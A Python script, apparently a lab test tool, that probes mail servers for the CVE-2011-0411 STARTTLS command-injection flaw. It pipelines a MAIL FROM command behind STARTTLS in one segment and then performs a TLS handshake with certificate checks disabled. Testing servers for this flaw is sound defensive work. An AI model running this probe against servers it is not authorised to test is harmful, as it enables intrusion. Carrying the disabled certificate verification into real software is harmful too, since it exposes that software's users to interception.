#!/usr/bin/env python3
"""starttls-inject.py — a client that pipelines MAIL FROM behind STARTTLS in one segment (CVE-2011-0411 pattern).

Usage: starttls-inject.py SERVER PORT SRC_IP SRC_PORT HELO
EHLO, then "STARTTLS\\r\\nMAIL FROM:<...>\\r\\n" in a single send (RFC 3207 §4.2 forbids anything after
STARTTLS before TLS), then whatever the server answers to STARTTLS: on 220 a TLS handshake
(certificate not checked: this is a lab) and QUIT inside TLS. Prints the server's replies; exit 0
when the STARTTLS reply came and, if it was 220, the handshake completed.
"""
import socket
import ssl
import sys


def reply(f):
    """One whole SMTP reply (RFC 5321 §4.2), as text."""
    out = []
    while True:
        line = f.readline()
        if not line:
            break
        out.append(line.decode("ascii", "replace").rstrip())
        if len(line) < 4 or line[3:4] != b"-":
            break
    print("\n".join("S: " + l for l in out), flush=True)
    return out


def main():
    server, port, src, sport, helo = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src, sport))
    s.settimeout(10)
    s.connect((server, port))
    f = s.makefile("rb")
    reply(f)
    s.sendall(f"EHLO {helo}\r\n".encode())
    reply(f)
    s.sendall(b"STARTTLS\r\nMAIL FROM:<scan@example.test>\r\n")
    r = reply(f)
    if not r:
        return 1
    if not r[0].startswith("220"):
        s.close()
        return 0
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname="mail.example.test")
    print(f"TLS: {t.version()}", flush=True)
    t.sendall(b"QUIT\r\n")
    tf = t.makefile("rb")
    reply(tf)
    t.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
